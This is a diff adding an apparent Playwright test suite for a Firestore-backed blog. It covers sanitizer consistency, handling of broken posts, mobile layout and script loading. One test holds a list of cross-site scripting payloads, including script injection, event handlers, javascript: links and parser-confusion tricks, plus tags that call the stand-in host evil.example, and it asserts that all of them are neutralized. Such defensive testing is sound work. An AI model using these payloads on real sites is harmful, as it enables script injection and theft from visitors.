@@ -1,0 +1,181 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { words } from '../../components/blog/words';
+import { sanitizeAtBuild } from '../../lib/blog/build/sanitizeAtBuild';
+import { blogCollection } from '../../scripts/emulators/firestore/seed';
+import { post, put, remove, sampleTitles, status, test, titles } from '../support/blogPage';
+import { expect } from '../support/fixtures';
+
+// What posts may contain, and the code that shows them.
+
+test('a post looks the same whether built or live', async ({ page, firestore }) => {
+  const html =
+    '<h1>A</h1><main><p>x<p>y <b>z<i>u</b>v</i> &lt; &amp; &nbsp;w</main><img src="/x.jpg" alt="f/2 < f/4 & more">' +
+    '<table><tr><td colspan=2>1<td>2</table><pre>\n\n code</pre><marquee>m</marquee><a href="/studio">s</a>';
+  await page.route('**/x.jpg', (route) => route.fulfill({ path: 'out/share/blog.jpg' }));
+  put(firestore, 'same', post('Same', '2026-01-01', html));
+  await page.goto('/blog');
+  await expect(titles(page).first()).toHaveText('Same');
+  const [live, built] = await page.evaluate((atBuild) => {
+    const template = document.createElement('template');
+    template.innerHTML = atBuild;
+    return [document.querySelector('.prose')?.innerHTML, template.innerHTML];
+  }, sanitizeAtBuild(html));
+  expect(live).toBe(built);
+});
+
+test.describe('posts that cannot be shown', () => {
+  test.use({
+    expectedMessages:
+      /blog\/(bad|long|broken) is not shown: its (HTML (is a set of frames|has 300,001 characters)|field 'postDate' is missing or is not text)/,
+  });
+
+  test('one fails alone and recovers when it is changed or removed; one without its fields is skipped and named', async ({
+    page,
+    firestore,
+  }) => {
+    const warnings: string[] = [];
+    page.on('console', (message) => warnings.push(message.text()));
+    put(firestore, 'bad', post('Bad', '2023-08-01', '<frameset>'));
+    put(firestore, 'long', post('Long', '2023-08-02', 'x'.repeat(300_001)));
+    firestore.store.commit([
+      {
+        kind: 'set',
+        name: `${blogCollection}/broken`,
+        fields: {
+          postDate: { integerValue: '3' },
+          postTitle: { stringValue: 'x' },
+          postContent: { stringValue: 'y' },
+        },
+      },
+    ]);
+    await page.goto('/blog');
+    await expect(status(page)).toContainText('Live');
+    const [first = '', ...rest] = sampleTitles;
+    await expect(titles(page)).toHaveText([first, 'Long', 'Bad', ...rest]);
+    expect(warnings.filter((text) => text.startsWith('blog/broken'))).not.toEqual([]);
+    await expect(page.locator('#post-bad')).toContainText(words.notShown);
+    await expect(page.getByText(words.notShown)).toHaveCount(2);
+    put(firestore, 'bad', post('Good', '2023-08-01', '<p>All right.</p>'));
+    await expect(page.locator('#post-bad')).toContainText('All right.');
+    remove(firestore, 'long');
+    await expect(page.getByText(words.notShown)).toHaveCount(0);
+    await expect(titles(page)).toHaveText([first, 'Good', ...rest]);
+  });
+});
+
+test('no post scrolls the page sideways on a phone', async ({ page, firestore }) => {
+  const long = 'w'.repeat(300);
+  const posts = {
+    table: `<table><caption>Prices</caption><tr>${'<td>eight</td>'.repeat(30)}</tr></table>`,
+    words: `<p>${long}</p><ul><li>${long}</ul><h2>${long}</h2><details open><summary>${long}</summary>${long}</details>`,
+    inline: `<code>${long}</code> <kbd>${long}</kbd> <q>${long}</q> <ruby>${long}<rt>${long}</ruby>`,
+    code: `<pre><code>${long}\n${'a b '.repeat(100)}</code></pre>`,
+    marquee: `<marquee width=5000>x</marquee><canvas width=5000></canvas><hr width=5000><nobr>${'a b '.repeat(100)}</nobr>`,
+    lists: `${'<ul><li>x'.repeat(40)}${'</li></ul>'.repeat(40)}<p>end</p>`,
+    quotes: `${'<blockquote>'.repeat(45)}<p>${long}</p>${'</blockquote>'.repeat(45)}`,
+    definitions: `${'<dl><dd>'.repeat(40)}x${'</dd></dl>'.repeat(40)}`,
+    pictures:
+      '<img src="/share/blog.jpg" width=5000 height=50><figure><img src="/share/blog.jpg" width=5000 height=3></figure>',
+    nested: `<ul><li><table><tr><td><table><tr>${`<td>${long}`.repeat(3)}</table></table></ul>`,
+    spans:
+      '<table><colgroup><col width=5000 span=1000></colgroup><tr><td width=5000 colspan=1000 rowspan=9999>x</table>',
+  };
+  for (const [id, html] of Object.entries(posts)) put(firestore, id, post(long, long, html));
+  await page.setViewportSize({ width: 320, height: 800 });
+  await page.goto('/blog');
+  await expect(titles(page)).toHaveCount(3 + Object.keys(posts).length);
+  for (const width of [320, 390]) {
+    await page.setViewportSize({ width, height: 800 });
+    for (const id of Object.keys(posts)) {
+      const article = page.locator(`#post-${id}`);
+      const wide = await article.evaluate((element) => element.scrollWidth - element.clientWidth);
+      expect({ id, width, wide }).toEqual({ id, width, wide: 0 });
+    }
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(width);
+  }
+  const box = page.locator('#post-table').getByRole('group');
+  await box.focus();
+  await page.keyboard.press('ArrowRight');
+  await expect.poll(() => box.evaluate((element) => element.scrollLeft)).toBeGreaterThan(0);
+});
+
+test.describe('an attack', () => {
+  // The sanitizer's document is not part of the page, but the browser reports it.
+  test.use({ expectedMessages: /Content Security Policy directive/ });
+
+  test('malicious posts show as text and pictures only', async ({ page, firestore }) => {
+    const evil: string[] = [];
+    page.on('dialog', (dialog) => {
+      evil.push(`dialog ${dialog.message()}`);
+      void dialog.dismiss();
+    });
+    await page.route('**/evil.example/**', (route) => {
+      evil.push(route.request().url());
+      return route.abort();
+    });
+    const attacks = [
+      '<script>alert(1)</script><script src="https://evil.example/a.js"></script>',
+      '<img src="data:," onerror="alert(2)"><svg onload="alert(3)"></svg><body onload=alert(4)>',
+      '<a href="javascript:alert(5)" id="attack">press</a><a href="&#106;avascript:alert(6)">x</a>',
+      '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>',
+      '<form action="https://evil.example/f"><input name="getElementById" autofocus onfocus="alert(7)"></form>',
+      '<style>@import "https://evil.example/s.css"; body { display: none }</style><link rel="stylesheet" href="https://evil.example/l.css">',
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(8)&gt;">',
+      '<noscript><p title="</noscript><img src=x onerror=alert(9)>"></noscript>',
+      '<p style="background:url(https://evil.example/bg)">x</p><video src="https://evil.example/v" autoplay onplay="alert(10)"></video>',
+      '<meta http-equiv="refresh" content="0;url=https://evil.example/m"><base href="https://evil.example/b/">',
+      '<details open ontoggle="alert(11)"><summary>x</summary></details><marquee onstart="alert(12)">x</marquee>',
+    ];
+    put(firestore, 'attack', post('<img src=x onerror=alert(0)>', '2026-01-01', attacks.join('')));
+    await page.goto('/blog');
+    await expect(titles(page).first()).toHaveText('<img src=x onerror=alert(0)>');
+    for (const link of await page.locator('article').first().getByText('press').all())
+      await link.click({ force: true });
+    await page.waitForTimeout(500);
+    expect(evil).toEqual([]);
+    await expect(page.locator('body')).toBeVisible();
+    const attributes = await page
+      .locator('article')
+      .first()
+      .evaluate((article) =>
+        [...article.querySelectorAll('*')].flatMap((element) =>
+          [...element.attributes]
+            .map(({ name }) => name)
+            .filter((name) => name.startsWith('on') || name === 'style'),
+        ),
+      );
+    expect(attributes).toEqual([]);
+    await expect(
+      page.locator('article script, article iframe, article object, article form, article style'),
+    ).toHaveCount(0);
+  });
+});
+
+test("Firestore's code loads after the page, and on no other page", async ({ page }) => {
+  const live = readdirSync('out/_next/static/chunks').filter((file) =>
+    readFileSync(`out/_next/static/chunks/${file}`, 'utf8').includes('google.firestore.v1.Firestore'),
+  );
+  // One for readers, one with the session for the owner’s page, and one for a client’s gallery.
+  expect(live).toHaveLength(3);
+  const fetched: { name: string; loaded: boolean }[] = [];
+  let loaded = false;
+  page.on('load', () => {
+    loaded = true;
+  });
+  page.on('request', (request) => fetched.push({ name: request.url(), loaded }));
+  await page.goto('/');
+  await page.waitForLoadState('networkidle');
+  const liveOnes = () => fetched.filter(({ name }) => live.some((file) => name.includes(file)));
+  expect(liveOnes()).toEqual([]);
+  loaded = false;
+  await page.goto('/blog');
+  await expect(status(page)).toContainText('Live');
+  expect(liveOnes().map((request) => request.loaded)).toEqual([true]);
+});
+
+test('no page loads the regular expression engine', () => {
+  for (const file of readdirSync('out/_next/static/chunks')) {
+    const code = readFileSync(`out/_next/static/chunks/${file}`, 'utf8');
+    expect(code).not.toContain('RE2Syntax');
+  }
+});
